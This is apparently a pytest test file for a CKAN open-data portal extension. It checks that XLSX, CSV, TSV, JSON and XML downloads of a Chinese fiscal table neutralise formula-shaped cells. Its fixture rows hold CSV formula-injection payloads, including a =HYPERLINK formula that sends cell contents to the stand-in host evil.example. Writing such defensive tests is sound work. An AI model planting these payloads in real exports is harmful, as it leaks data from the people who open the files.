"""A loaded table whose 备注 column holds formula-shaped text and whose 金额 column holds negative
amounts, downloaded anonymously in every format: no XLSX cell is a formula; the CSV/TSV for Excel
(the portal's own downloads and CKAN's dump) put an apostrophe before text cells that start with
= + - @, a tab or a carriage return, and keep numbers exact (-5 stays -5); JSON and XML stay exact."""
from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from xml.etree import ElementTree

import openpyxl
import pytest

import ckan.plugins.toolkit as tk

from ckanext.harbin_opendata.tests.web import csrf_token

from ..privacy.publishing import publish
from .conftest import run_jobs, search, upload

HEADER = ["序号", "项目", "金额", "备注"]
ROWS = [["1", "道里区供热补贴", "-5", '=HYPERLINK("http://evil.example/?x="&A1,"点击")'],
        ["2", "南岗区道路维修", "12.5", "\t=1+1"],
        ["3", "道外区环卫经费", "-3.25", "-连续下降"],
        ["4", "香坊区公园绿化", "0", "@SUM(A1:A3)"],
        ["5", "松北区路灯改造", "8", "+86 0451"],
        ["6", "呼兰区学校维修", "100", "按期完成"]]


def _table() -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows([HEADER, *ROWS])
    return out.getvalue().encode("gb18030")


@pytest.fixture
def hostile_table(people, storage) -> str:
    resource = upload(people.entry["id"], people.editor, _table(), "财政支出.csv", "CSV")
    publish(people, people.entry["id"])
    run_jobs()
    return resource["id"]


def _stored(resource_id: str) -> list[str]:
    """The 备注 cells as the DataStore holds them (the loader may trim a cell's blanks)."""
    return [row["备注"] for row in search("", resource_id, sort="_id")["records"]]


def _text_rows(body: bytes, tsv: bool) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), dialect="excel-tab" if tsv else "excel"))


def _expect_escaped(rows: list[list[str]], stored: list[str]) -> None:
    column, amount = rows[0].index("备注"), rows[0].index("金额")
    assert [row[column] for row in rows[1:]] == ["'" + note if note[:1] in "=+-@\t\r" else note for note in stored]
    assert [row[amount] for row in rows[1:]] == ["-5", "12.5", "-3.25", "0", "8", "100"]  # numbers exact


def test_portal_downloads_have_no_formulas(app, hostile_table):
    stored = _stored(hostile_table)
    assert stored[0].startswith("=HYPERLINK(") and stored[2] == "-连续下降"
    url = tk.h.url_for("harbin_data.download", resource_id=hostile_table)
    sheet = openpyxl.load_workbook(io.BytesIO(app.get(url, query_string={"format": "xlsx"}).get_data())).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [row[3].value for row in sheet.iter_rows(min_row=2)] == stored  # shown as typed
    assert [row[2].value for row in sheet.iter_rows(min_row=2)] == [-5, 12.5, -3.25, 0, 8, 100]
    for fmt in ("csv", "tsv"):
        _expect_escaped(_text_rows(app.get(url, query_string={"format": fmt}).get_data(), fmt == "tsv"), stored)
    records = json.loads(app.get(url, query_string={"format": "json"}).get_data())["records"]
    assert [row[3] for row in records] == stored and records[0][2] == -5  # exact for programs
    xml_rows = ElementTree.fromstring(app.get(url, query_string={"format": "xml"}).get_data()).findall("row")
    assert [row.find("备注").text for row in xml_rows] == stored
    assert Decimal(xml_rows[0].find("金额").text) == -5


def _filtered_download(app, resource_id: str, search: str, fmt: str) -> bytes:
    """The table view's download of the rows its search box found, posted as datatablesview.js does."""
    views = tk.get_action("resource_view_list")({"user": ""}, {"id": resource_id})
    view = next(view for view in views if view["view_type"] == "datatables_view")["id"]
    columns = [{"data": name, "name": name, "search": {"value": "", "regex": False}} for name in ["_id", *HEADER]]
    params = {"draw": 1, "start": 0, "length": 20, "search": {"value": search, "regex": False},
              "order": [{"column": 0, "dir": "asc"}], "columns": columns, "visible": [True] * len(columns)}
    client = app.test_client()
    token = csrf_token(client.get("/user/login").body)
    answer = client.post(f"/datatables/filtered-download/{view}", follow_redirects=False, data={
        "params": json.dumps(params, ensure_ascii=False), "format": fmt, "_csrf_token": token})
    assert answer.status_code == 302, answer.body[:300]
    return app.get(answer.headers["Location"] + "&bom=true").get_data()


def test_ckan_dump_has_no_formulas(app, hostile_table):
    stored = _stored(hostile_table)
    url = tk.h.url_for("datastore.dump", resource_id=hostile_table)
    for fmt in ("csv", "tsv"):
        body = app.get(url, query_string={"format": fmt, "bom": "true"}).get_data()
        _expect_escaped(_text_rows(body, fmt == "tsv"), stored)
    for fmt in ("csv", "tsv"):  # the table view's filtered download: its search, the same rule
        rows = _text_rows(_filtered_download(app, hostile_table, "连续", fmt), fmt == "tsv")
        assert [row[1:] for row in rows[1:]] == [["3", "道外区环卫经费", "-3.25", "'-连续下降"]]
    records = json.loads(app.get(url, query_string={"format": "json"}).get_data())["records"]
    assert [row[4] for row in records] == stored  # _id first: exact for programs
